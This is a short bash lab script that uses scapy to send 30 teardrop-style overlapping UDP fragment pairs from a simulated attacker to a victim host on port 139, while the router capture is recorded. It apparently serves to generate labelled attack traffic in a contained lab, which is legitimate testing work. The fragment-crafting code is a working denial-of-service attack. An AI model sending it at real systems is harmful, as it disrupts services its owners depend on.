#!/bin/bash
# teardrop: pairs of fragments of UDP datagrams, of which the second lies within the first, by scapy.
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
record router wan
on attacker /usr/bin/python3 - <<'PY'
import time
from scapy.all import IP, UDP, Ether, getmacbyip, sendp
l2 = Ether(dst=getmacbyip("203.0.113.1"))
for i in range(30):
    ip = dict(src="203.0.113.66", dst="10.20.0.10", id=242 + i, proto=17)
    sendp([l2 / IP(flags="MF", frag=0, **ip) / UDP(sport=4000 + i, dport=139, len=36, chksum=0) / (b"x" * 28),
           l2 / IP(frag=3, **ip) / (b"y" * 4)], iface="eth0", verbose=False)
    time.sleep(0.1)
PY
recorded
